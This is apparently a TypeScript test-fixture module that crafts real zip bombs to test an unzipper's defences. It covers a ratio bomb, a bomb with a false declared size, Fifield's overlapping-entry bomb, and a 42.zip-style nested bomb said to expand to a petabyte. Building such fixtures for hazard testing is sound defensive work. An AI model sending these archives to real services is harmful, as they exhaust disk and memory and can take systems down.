// The zip bombs of the hazard tests, built from scratch with zlib so that they are real bombs:
// any unzipper that trusts them inflates every byte they promise.
import type { Crafted } from './craft.js';
import {
  centralHeader,
  concat,
  crc,
  craftZip,
  deflate,
  endRecord,
  localHeader,
  te,
} from './craft.js';

export const MiB = 1024 * 1024;

export const zeros = (bytes: number): Uint8Array => new Uint8Array(bytes);

/** One entry honestly declaring `bytes` of zeros, deflated about 1000:1. */
export function ratioBomb(bytes: number): Uint8Array {
  return craftZip([{ name: 'zeros.bin', content: zeros(bytes), method: 8 }]);
}

/**
 * A small text file that declares 1,000 bytes but inflates to `bytes` of zeros, between two
 * honest files: only counting the bytes actually produced can catch it.
 */
export function lyingBomb(bytes: number): Uint8Array {
  const lie = { uncompressedSize: 1000 };
  const honest = (name: string): Crafted => ({ name, content: te.encode('honest'), method: 8 });
  return craftZip([
    honest('a.txt'),
    { name: 'm.txt', content: zeros(bytes), method: 8, central: lie, local: lie },
    honest('z.txt'),
  ]);
}

/**
 * David Fifield's overlapping-entry bomb ("A better zip bomb", 2019): one deflated kernel shared by
 * every entry. Entry i starts with a non-final stored DEFLATE block that quotes the local header
 * of entry i+1, then runs on into entry i+1's data, so each entry is valid and every entry
 * inflates the whole kernel: n entries of ~`kernelBytes` from one kernel.
 */
export function overlapBomb(entries: number, kernelBytes: number): Uint8Array {
  const kernel = zeros(kernelBytes);
  const kernelData = deflate(kernel);
  const headers: Uint8Array[] = [];
  const fields: { name: Uint8Array; crc: number; usize: number; csize: number }[] = [];
  let content: Uint8Array = kernel;
  let csize = kernelData.length;
  for (let i = entries - 1; i >= 0; i--) {
    if (i < entries - 1) {
      const quoted = headers[0]!;
      content = concat(quoted, content);
      csize += 5 + quoted.length;
    }
    const entry = {
      name: te.encode(`${i}`.padStart(4, '0')),
      crc: crc(content),
      usize: content.length,
      csize,
    };
    fields.unshift(entry);
    headers.unshift(
      localHeader({
        name: entry.name,
        flags: 0,
        method: 8,
        crc: entry.crc,
        compressedSize: entry.csize,
        uncompressedSize: entry.usize,
        extra: new Uint8Array(0),
      }),
    );
  }
  const quote = (length: number): Uint8Array =>
    Uint8Array.of(0, length & 0xff, length >>> 8, ~length & 0xff, (~length >>> 8) & 0xff);
  const body: Uint8Array[] = [];
  const offsets: number[] = [];
  let offset = 0;
  headers.forEach((header, i) => {
    offsets.push(offset);
    const next = headers[i + 1];
    const part = next === undefined ? header : concat(header, quote(next.length));
    body.push(part);
    offset += part.length;
  });
  body.push(kernelData);
  offset += kernelData.length;
  const directory = concat(
    ...fields.map((f, i) =>
      centralHeader({
        name: f.name,
        flags: 0,
        method: 8,
        crc: f.crc,
        compressedSize: f.csize,
        uncompressedSize: f.usize,
        extra: new Uint8Array(0),
        madeBy: 0x0314,
        externalAttributes: (0o100644 << 16) >>> 0,
        diskStart: 0,
        localOffset: offsets[i]!,
      }),
    ),
  );
  const end = endRecord({
    disk: 0,
    directoryDisk: 0,
    entriesOnDisk: entries,
    entries,
    directorySize: directory.length,
    directoryOffset: offset,
    comment: new Uint8Array(0),
  });
  return concat(...body, directory, end);
}

/**
 * A 42.zip-style recursive bomb: `levels` layers of `fanout` identical deflated archives around
 * one file of `innerBytes` zeros (16 MiB, 4 levels, fanout 16: a petabyte when fully unpacked).
 */
export function nestedBomb(levels: number, fanout: number, innerBytes: number): Uint8Array {
  let layer = craftZip([{ name: '0.dll', content: zeros(innerBytes), method: 8 }]);
  for (let level = 0; level < levels; level++) {
    const names = Array.from({ length: fanout }, (_, i) => `${i.toString(16)}.zip`);
    layer = craftZip(names.map((name) => ({ name, content: layer, method: 8 })));
  }
  return layer;
}
